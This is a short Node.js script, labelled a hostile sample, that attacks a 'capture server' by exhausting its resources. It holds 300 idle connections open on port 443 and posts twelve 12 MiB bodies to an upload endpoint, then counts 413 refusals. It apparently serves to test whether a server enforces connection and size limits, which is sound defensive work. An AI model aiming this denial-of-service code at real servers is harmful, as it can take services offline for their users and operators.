// Hostile sample: exhaust the capture server. Holds 300 connections open on
// port 443 without a byte, and sends 12 bodies of 12 MiB to port 80: a
// capture server without limits runs out of descriptors and memory.
const net = require('net');
const http = require('http');
const held = [];
let opened = 0;
for (let i = 0; i < 300; i++) {
  const s = net.connect(443, '198.18.0.9');
  s.on('connect', () => { opened++; });
  s.on('error', () => {});
  held.push(s);
}
let answered = 0, refused = 0;
const body = Buffer.alloc(12 << 20, 0x61);
let pending = 12;
for (let i = 0; i < 12; i++) {
  const req = http.request({ host: '198.18.0.10', port: 80, path: '/upload', method: 'POST',
                             headers: { 'content-length': body.length } }, (res) => {
    if (res.statusCode === 413) refused++; else answered++;
    res.resume();
    if (--pending === 0) finish();
  });
  req.on('error', () => { if (--pending === 0) finish(); });
  req.end(body);
}
function finish() {
  console.log(`opened ${opened}, bodies answered ${answered}, refused ${refused}`);
  setTimeout(() => process.exit(0), 300);
}
